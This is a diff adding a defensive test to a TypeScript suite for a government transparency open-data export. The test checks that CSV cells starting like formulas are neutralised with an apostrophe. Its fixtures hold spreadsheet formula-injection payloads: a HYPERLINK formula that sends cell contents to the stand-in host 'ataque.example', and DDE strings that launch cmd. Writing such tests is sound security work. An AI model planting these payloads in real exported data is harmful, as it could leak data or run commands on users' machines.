@@ -68,6 +68,11 @@ describe('datos abiertos de transparencia', () => {
   let plain: string;
   let draft: string;
   let fileUrl: string;
+  let formulas: string;
+  let formulaWord: string;
+  const FORMULA_TITLE = (w: string) => `=HYPERLINK("http://ataque.example/?d="&A1,"${w}")`;
+  const FORMULA_NOTE = "+cmd|' /C calc'!A0";
+  const FORMULA_AREA = '@SUM(1+1)*cmd|x';
   const NOTE = 'Incluye la "Coordinación de Gobierno Digital", creada en 2026;\nver anexo.';
 
   beforeAll(async () => {
@@ -100,6 +105,19 @@ describe('datos abiertos de transparencia', () => {
       periodEnd: '2025-12-31',
       responsibleArea: 'Dirección de Administración',
       body: 'Directorio vigente',
+    });
+    formulaWord = token();
+    formulas = await publishedItem(app, 'transparency-document', {
+      title: FORMULA_TITLE(formulaWord),
+      law: STATE_LAW,
+      article: '92',
+      fraccion: 'III',
+      ejercicio: 2026,
+      periodStart: '2026-01-01',
+      periodEnd: '2026-03-31',
+      responsibleArea: FORMULA_AREA,
+      note: FORMULA_NOTE,
+      body: 'Documento con textos que una hoja de cálculo tomaría por fórmulas',
     });
     draft = await readyItem(app, 'transparency-document', {
       title: `Marco normativo ${word}`,
@@ -168,6 +186,37 @@ describe('datos abiertos de transparencia', () => {
       .expect(200);
     const [, ...rows] = parseCsv(res.text.replace(/^\uFEFF/, ''));
     expect(rows.map((row) => row[0])).toEqual([plain]);
+  });
+
+  it('CSV: un título, una nota o un área que empiezan como fórmula llevan un apóstrofo delante', async () => {
+    // Given a published document whose texts start with =, + and @
+    // When a citizen downloads the open data CSV
+    const res = await app
+      .http()
+      .get(`/api/open-data/transparency.csv?q=${formulaWord}`)
+      .expect(200);
+    const [header, ...rows] = parseCsv(res.text.replace(/^\uFEFF/, ''));
+    // Then the spreadsheet sees text, never a formula, and the rest of the row is untouched
+    expect(rows.map((row) => row[0])).toEqual([formulas]);
+    const row = Object.fromEntries(header.map((name, i) => [name, rows[0][i]]));
+    expect(row).toMatchObject({
+      title: `'${FORMULA_TITLE(formulaWord)}`,
+      note: `'${FORMULA_NOTE}`,
+      responsibleArea: `'${FORMULA_AREA}`,
+      fraccion: 'III',
+      ejercicio: '2026',
+    });
+    for (const cell of rows[0]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+
+    // And the JSON keeps the text exactly as published, for the programs that read it
+    const json = await app
+      .http()
+      .get(`/api/open-data/transparency.json?q=${formulaWord}`)
+      .expect(200);
+    expect((json.body as GetOpenDataJsonResponse).data[0]).toMatchObject({
+      title: FORMULA_TITLE(formulaWord),
+      note: FORMULA_NOTE,
+    });
   });
 
   it('JSON: generatedAt, count, los mismos campos y una fila por documento', async () => {
